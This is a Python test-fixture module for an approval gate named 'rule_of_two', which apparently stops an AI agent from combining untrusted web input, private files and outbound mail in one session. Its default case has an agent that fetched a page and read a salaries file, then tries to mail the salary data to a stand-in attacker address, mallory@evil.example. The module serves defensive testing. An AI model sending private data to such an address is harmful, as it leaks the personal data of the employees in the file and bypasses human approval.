"""Questions for the tests of this room: a mail that would complete the set."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

import anyio.lowlevel
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from rule_of_two.approvals.answer import Answer, Refusal
from rule_of_two.approvals.choice import Choice
from rule_of_two.approvals.command import Command
from rule_of_two.approvals.question import Origin, Question
from rule_of_two.errors import StoreError
from rule_of_two.model import Action, Facts, Label, Labels, Outcome, Target, Tier, Verdict

NOW = datetime(2026, 11, 22, 14, 2, 55, tzinfo=UTC)
WAIT = timedelta(seconds=45)

PAGE = Origin(call=3, name="fetch__fetch", shown="127.0.0.1:8000", at=NOW - timedelta(seconds=40))
SALARIES = Origin(
    call=4, name="files__read_text_file", shown="/srv/private/salaries.csv", at=NOW - timedelta(seconds=36)
)
HELD: Mapping[Label, Origin] = {"A": PAGE, "B": SALARIES}
MALLORY = Target("recipient", "mallory@evil.example", "Mallory@evil.example")
LETTER = {"to": "mallory@evil.example", "subject": "Q3", "body": "Name, salary\nAlice, 93000\n"}


def a_question(
    *,
    arguments: Mapping[str, Any] = LETTER,
    forwarded: Mapping[str, Any] | None = None,
    held: Mapping[Label, Origin] = HELD,
    labels: Labels = frozenset(("C",)),
    targets: tuple[Target, ...] = (MALLORY,),
    action: Action = Action.CALL_TOOL,
    name: str = "send_mail",
    upstream: str = "mail",
    messages: tuple[str, ...] = ("This call would complete A, B and C in one session.",),
    pin: str | None = "ab" * 32,
    secret_pointers: tuple[str, ...] = (),
    now: datetime = NOW,
    wait: timedelta = WAIT,
    **others: Any,
) -> Question:
    """A question; what a test does not name is a plain mail to Mallory."""
    facts = Facts(action, upstream, name, labels, targets=targets)
    return Question.about(
        facts,
        Verdict(Outcome.ASK, policies=("invariant-rule-of-two",), messages=messages),
        session=others.pop("session", "s-7f3a91"),
        client=others.pop("client", "claude-desktop"),
        arguments=arguments,
        forwarded=forwarded or {},
        held=held,
        pin=pin,
        policy_version=others.pop("policy_version", "cd" * 32),
        now=now,
        wait=wait,
        secret_pointers=secret_pointers,
        **others,
    )


class Clock:
    """A clock that a test sets."""

    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


def bare_key(key: Ed25519PrivateKey | None = None) -> bytes:
    """The file of a key without a passphrase; a new key, if none is given."""
    key = key or Ed25519PrivateKey.generate()
    return key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
    )


class Lenient:
    """A judge that lets everybody say everything, and remembers it."""

    def __init__(self, tier: Tier = Tier.ADVISORY, refusal: Refusal | None = None) -> None:
        self.tier = tier
        self.refusal = refusal
        self.recorded: list[Answer] = []
        self.commands: list[Command] = []
        self.fails = False

    def refuses(self, question: Question, answer: Answer) -> Refusal | None:
        return self.refusal

    async def record(self, question: Question, answer: Answer) -> None:
        await anyio.lowlevel.checkpoint()
        if self.fails:
            raise StoreError("the disk is full")
        self.recorded.append(answer)

    def refuses_command(self, command: Command) -> Refusal | None:
        return self.refusal

    async def carry_out(self, command: Command) -> str | None:
        await anyio.lowlevel.checkpoint()
        if self.fails:
            raise StoreError("the disk is full")
        self.commands.append(command)
        return "s-new" if command.choice is Choice.NEW else command.session


def an_answer(question: Question, choice: Choice = Choice.YES, **changed: Any) -> Answer:
    """What an honest console answers."""
    members = {
        "question_id": question.id,
        "session": question.session,
        "digest": question.digest,
        "shown": question.shown,
        "verdict": choice,
        "approver": "alice",
        "answered_at": question.created_at,
    }
    return Answer(**{**members, **changed})
